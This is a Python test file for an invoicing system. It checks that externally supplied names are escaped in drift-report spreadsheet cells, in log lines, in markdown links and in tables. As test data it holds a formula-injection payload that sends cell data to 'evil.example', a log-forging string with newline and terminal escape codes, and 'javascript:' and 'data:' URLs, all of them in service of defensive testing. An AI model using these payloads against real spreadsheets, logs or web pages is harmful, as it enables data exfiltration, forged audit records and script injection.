"""Names that somebody else chose: in logs, in links, in files for spreadsheets."""

import io
import logging
import subprocess
import sys

import pytest

from invoicing.domain.model import markdown
from invoicing.ledger.drift import Difference
from tasks.full_sync.drift_report import COLUMNS, listed
from tests.conftest import ROOT

pytestmark = pytest.mark.parametrize("ledger_url", ["sqlite"], indirect=True)
FORGED = "Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x"


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_a_drift_report_is_a_formula(start: str) -> None:
    """Whatever the systems say stands there as a text."""
    formula = f'{start}HYPERLINK("https://evil.example?"&A1)'
    row = Difference("in_1", "status", formula, None, "", formula, formula, False, formula)
    cells = dict(zip(COLUMNS, listed(row), strict=True))
    said = ("name", "stripe_says", "salesforce_says", "outcome")
    assert [cells[name] for name in said] == ["'" + formula] * 4
    assert cells["kind"] == "status"


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize("logger", ["prefect.flow_runs", "prefect.task_runs"])
def test_a_name_begins_no_line_of_a_run_log(logger: str) -> None:
    """Nor does it move a terminal's cursor."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    log = logging.getLogger(logger)
    log.addHandler(handler)
    try:
        log.error("%s is busy: 100 %%", FORGED)
    finally:
        log.removeHandler(handler)
    said = r"Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x is busy: 100 %"
    assert written.getvalue() == f"{said}\n"


PROGRAM = """
import logging, sys
from importlib import import_module
_, program, name = sys.argv
del sys.argv[1:]
started = import_module(program)
started.check_revision = lambda: sys.exit(logging.getLogger("it").warning(name))
started.main()
"""
"""Starts a program that has a name to tell as soon as it has begun."""


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize("program", ["receiver", "listener"])
def test_a_name_begins_no_line_of_a_programs_log(
    program: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What an error of a service or of the ledger tells is one line, too."""
    monkeypatch.setenv("INVOICING_STRIPE__WEBHOOK_SECRETS", "whsec_1")
    command = [sys.executable, "-c", PROGRAM, f"invoicing.{program}.__main__", FORGED]
    ended = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True)
    [line] = ended.stderr.split("\n")[:-1]
    assert line.endswith(r"it Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x")


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "x y"]
)
def test_a_link_leads_to_the_web_or_nowhere(url: str) -> None:
    """What is none is shown as its label; a label ends where it should."""
    assert markdown.link("Acme", url) == "Acme"
    assert markdown.link("Acme](https://evil.example) [", "https://good.example/1") == (
        r"[Acme\](https://evil.example) \[](https://good.example/1)"
    )


@pytest.mark.usefixtures("ledger_url")
def test_a_name_ends_no_cell_of_a_table() -> None:
    """Neither by a bar or a line end, nor by a bar that seems to be escaped already."""
    table = markdown.table(["name"], [["a|b"], [r"a\|b"], ["a\n|b\r"]])
    cells = table.splitlines()[2:]
    assert cells == [r"| a\|b |", r"| a\\\|b |", r"| a \|b  |"]
